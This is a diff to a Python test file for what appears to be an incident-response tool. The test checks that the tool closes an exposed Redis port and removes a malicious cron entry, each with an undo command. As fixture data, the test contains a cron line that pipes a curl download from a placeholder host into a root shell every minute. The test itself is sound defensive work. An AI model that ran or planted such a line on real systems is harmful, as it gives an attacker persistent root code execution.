@@ -339,9 +339,9 @@ def test_an_intruder_is_frozen_kept_and_not_ended() -> None:
 
 def test_the_door_it_came_in_by_is_closed() -> None:
     """A port, for what comes from outside alone; a scheduled download, by its line; both with their undo."""
-    door = Sign("door", "port 6379 (Redis) is open to everybody", "x")
+    door = Sign("door", "port 6379 (Redis) is open to everybody", "x", port=6379)
     text = "# a\n* * * * * root curl http://x | sh\n"
-    download = Sign("download", "a scheduled line", "/etc/cron.d/x: * * * * * root curl")
+    download = Sign("download", "a scheduled line", "/etc/cron.d/x: * * * * * root curl", path="/etc/cron.d/x")
     port, line = adapted(door, download, files={"/etc/cron.d/x": text}).steps[2:]
     assert {port.phase, line.phase} == {"close"}
     assert port.undo == port.command.replace("-I", "-D")
